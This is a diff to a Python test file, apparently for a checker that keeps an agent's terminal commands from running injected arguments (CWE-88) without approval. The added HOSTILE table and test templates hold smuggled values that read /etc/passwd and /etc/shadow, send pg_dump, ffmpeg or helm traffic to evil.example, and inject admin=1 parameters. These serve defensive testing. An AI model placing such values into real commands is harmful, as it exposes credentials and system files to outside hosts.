@@ -108,7 +108,35 @@ printf {} x|text|\\0101
 docker exec {} ls|web|-u0
 kubectl exec {} -- ls|web|--all
 conda run -n {} python a.py|base|-p/tmp/evil
-RESTIC_PASSWORD={} make|x|y
+7z x {}|a.7z|@list
+7z a a.7z {}|d|@list
+gcc {} -o a|a.c|@flags
+javac {}|A.java|@flags
+dig {}|example.org|@evil.example
+dig example.org {}|A|+tcp
+convert {} b.png|a.png|msl:evil.msl
+convert {} b.png|a.png|@list
+convert a.png {}|b.png|ephemeral:x
+convert -size 9x9 caption:{} b.png|hi|@/etc/passwd
+magick a.png -annotate 0 {} b.png|hi|@/etc/passwd
+ffmpeg -i {} o.mp4|a.mp4|concat:/etc/passwd
+ffmpeg -i {} o.mp4|a.mp4|subfile,,start,0,end,9,,:/etc/passwd
+ffmpeg -i a.mp4 {}|o.mp4|tcp://evil.example:1
+ffprobe {}|a.mp4|data:text/plain,x
+pg_dump {}|shop|host=evil.example
+pg_dump {}|shop|postgresql://evil.example/x
+pg_restore -d {} f|shop|host=evil.example
+createdb {}|shop|service=evil
+curl -d 'a={}' https://example.org|x|y&admin=1
+curl -d 'a={}&b=1' https://example.org|x|y&admin=1
+curl --data='a={}' https://example.org|x|y&admin=1
+curl -d '<a>{}</a>' https://example.org|x|</a><admin/><a>
+curl -d '<a b="{}"/>' https://example.org|x|x" admin="1
+wget -O- --post-data='a={}' https://example.org|x|y&admin=1
+curl -b 'sid={}' https://example.org|x|y; admin=1
+curl -b {} https://example.org|a=b|/etc/shadow
+helm upgrade x ./c --set a={}|1|1,image=evil.example/x
+helm install x ./c --set-string a={}|1|1,b=2
 """
 PAIRS = [tuple(line.split("|")) for line in HOSTILE.strip().splitlines()]
 
@@ -135,6 +163,57 @@ def test_a_value_that_means_more_than_the_examples_did_never_runs_unasked(templa
     if hostile:
         approved, found = effect("terminal", {"command": harmless}), effect("terminal", {"command": hostile})
         assert found.asks and not approved.asks or found.destructive and not approved.destructive, hostile
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "npm config set {} x",
+        "yarn config set {} x",
+        "pip config set {} x",
+        "cmake -D {} .",
+        "cmake -D{} .",
+        "systemctl set-environment {}",
+        "tcpdump -i eth0 -w f -z {}",
+        "nmap --script={} h",
+        "nmap -iL {}",
+        "curl --variable {} https://example.org",
+        "curl --expand-url {}",
+        "aws ssm send-command --instance-ids i --parameters {}",
+        "aws --endpoint-url {} s3 ls",
+        "az vm run-command invoke -g a -n b --scripts {}",
+        "ffmpeg -i a.mp4 -vf {} o.mp4",
+        "ffmpeg -i a.mp4 -filter_complex {} o.mp4",
+        "convert a.png -draw {} b.png",
+        "docker build --secret {} .",
+        "gcc -include {} a.c",
+    ],
+)
+def test_a_setting_and_a_second_language_take_no_value(template: str) -> None:
+    """CWE-88: whatever the value is, what it would be there was never approved."""
+    assert shown(template, "a") == ""
+
+
+@pytest.mark.parametrize(
+    ("template", "value"),
+    [
+        ("npm config set registry {}", "https://registry.example.org"),
+        ("cmake -DCMAKE_BUILD_TYPE={} .", "Release"),
+        ("curl -d 'a={}' https://example.org", "it is so"),
+        ("curl -d {} https://example.org", "a=1&b=2"),
+        ("curl -b 'sid={}' https://example.org", "abc"),
+        ("helm upgrade x ./c --set image.tag={}", "1.2.3"),
+        ("ffmpeg -i {} o.mp4", "https://example.org/a.mp4"),
+        ("ffmpeg -i {} o.mp4", "my film.mov"),
+        ("convert {} b.png", "a b.png"),
+        ("pg_dump {}", "shop_2"),
+        ("dig {}", "example.org"),
+        ("7z x {}", "a.7z"),
+        ("git commit -m {}", "@dana: a=b & c"),
+    ],
+)
+def test_an_ordinary_value_stands_in_those_places(template: str, value: str) -> None:
+    assert shown(template, value)
 
 
 FETCHING = ("git checkout {}", "pip install {}", "kubectl apply -f {}", "git clone {}", "docker run {}", "make {}")
